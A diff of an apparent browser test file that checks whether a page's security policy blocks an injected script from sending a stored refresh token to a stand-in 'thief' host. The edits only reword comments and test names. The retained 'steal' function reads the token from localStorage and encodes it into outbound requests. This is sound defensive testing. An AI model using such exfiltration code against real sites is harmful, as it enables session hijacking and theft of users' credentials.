@@ -5,7 +5,7 @@ import { enterSession, signIn } from '../signed-in.ts'
 
 interface Thief {
   origin: string
-  /** Addresses that were asked for. */
+  /** The paths that were requested. */
   heard: string[]
 }
 
@@ -28,7 +28,10 @@ const test = plain.extend<{ thief: Thief; ours: string }>({
   },
 })
 
-/** An injected script's attempts on everything that the browser stores. Runs in the page. */
+/**
+ * Tries to send everything that the browser stores to another host, as an injected script would. Runs in the
+ * page.
+ */
 async function steal(thief: string): Promise<void> {
   const loot = encodeURIComponent(localStorage.getItem('refresh_token') ?? 'none')
   const to = (way: string) => `${thief}/${way}?${loot}`
@@ -72,13 +75,13 @@ async function steal(thief: string): Promise<void> {
       const tried = way()
       if (tried instanceof Promise) await tried.catch(() => undefined)
     } catch {
-      // A way that the browser refuses at once is one that leaks nothing.
+      // A way that throws leaks nothing.
     }
   }
 }
 
 for (const hasPolicy of [true, false]) {
-  test(`row 24: a script in the page ${hasPolicy ? 'sends a stolen token nowhere' : 'is heard where no policy holds it'}`, async ({
+  test(`row 24: a script in the page ${hasPolicy ? 'sends a stolen token nowhere' : 'sends it out if no policy prevents that'}`, async ({
     browser,
     ours,
     thief,
@@ -93,7 +96,7 @@ for (const hasPolicy of [true, false]) {
     await enterSession(page, session)
     await page.goto('/')
     await page.evaluate(steal, thief.origin)
-    // Earlier attempts have been sent or refused when this one is received: only leaving the page is not
+    // When this request is received, earlier attempts have been sent or refused. Only navigation isn't
     // prevented.
     await page.goto(`${thief.origin}/navigation`)
     expect(thief.heard).toContain('/navigation')
